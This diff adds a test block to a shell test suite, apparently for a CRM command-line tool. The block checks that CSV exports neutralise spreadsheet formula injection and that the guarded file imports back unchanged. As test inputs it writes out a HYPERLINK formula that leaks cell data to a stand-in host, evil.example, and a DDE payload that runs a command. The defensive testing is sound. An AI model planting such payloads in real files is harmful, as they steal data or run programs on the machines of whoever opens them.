@@ -187,6 +187,42 @@ r bob sync >/dev/null
 eq "$(r bob rejected --json | jq '[.[] | select(.reason == "duplicate")] | length')" "3" \
 	"the server refused the duplicates"
 
+# ---- spreadsheet formulas (CSV injection): a cell that starts with = + -
+# @ or a tab is written behind a single quote, so a spreadsheet shows it as
+# text instead of running it; import takes the one quote off again, so an
+# export reads back as it was (phones start with +).
+users carol:rep:east.sh @dave:rep:east.sh
+sync_all carol @dave
+formula='=HYPERLINK("http://evil.example/?d="&B3&C3,"Open")'
+r carol customer add --name "$formula" --phone "+86 21 5555 0009" >/dev/null
+r carol customer add --name "@SUM(1+1)" --address "+cmd|' /C calc'!A0" >/dev/null
+r carol customer add --name "-2+3" --address $'\tindented' >/dev/null
+r carol customer add --name "'=quoted already" --address "'plain quote" >/dev/null
+r carol export customers >"$T/formula.csv"
+grep -qF '"'"'"'=HYPERLINK(""http://evil.example/?d=""&B3&C3,""Open"")"' "$T/formula.csv" ||
+	fail "=HYPERLINK not guarded: $(cat "$T/formula.csv")"
+grep -qF ",'@SUM(1+1)," "$T/formula.csv" || fail "@SUM not guarded: $(cat "$T/formula.csv")"
+grep -qF ",'+cmd|' /C calc'!A0," "$T/formula.csv" || fail "+cmd not guarded: $(cat "$T/formula.csv")"
+grep -qF ",'-2+3," "$T/formula.csv" || fail "-2+3 not guarded: $(cat "$T/formula.csv")"
+grep -qF $',"\'\tindented",' "$T/formula.csv" || fail "a leading tab not guarded: $(cat "$T/formula.csv")"
+grep -qF ",'+86 21 5555 0009," "$T/formula.csv" || fail "a phone not guarded: $(cat "$T/formula.csv")"
+grep -qF ",''=quoted already," "$T/formula.csv" || fail "a quote before = not doubled: $(cat "$T/formula.csv")"
+grep -qF ",'plain quote," "$T/formula.csv" || fail "a quote before text changed: $(cat "$T/formula.csv")"
+# No cell of the file starts with what a spreadsheet runs.
+if tr -d '"' <"$T/formula.csv" | tr ',' '\n' | grep -q $'^[=+@\t-]'; then
+	fail "a cell starts with a formula character: $(cat "$T/formula.csv")"
+fi
+# Read back as it was.
+eq "$(r @dave import customers "$T/formula.csv")" "imported 4 customers" "import of the guarded file"
+eq "$(r @dave customer list --json | jq -c '[.[] | [.name, .phone, .address]] | sort')" \
+	"$(r carol customer list --json | jq -c '[.[] | [.name, .phone, .address]] | sort')" \
+	"the guarded export imports unchanged"
+# Reports too: a login may start with @.
+c=$(r @dave customer list --json | jq -r '.[0].id')
+r @dave opportunity add --customer "$c" --title Deal --amount 100 --stage proposal >/dev/null
+r @dave report pipeline --csv | grep -qxF "rep,'@dave,1,10000" ||
+	fail "report rep not guarded: $(r @dave report pipeline --csv)"
+
 # Usage: --help on stdout with status 0; bad command lines exit 2.
 for h in "import --help" "export --help" "import customers --help"; do
 	# shellcheck disable=SC2086
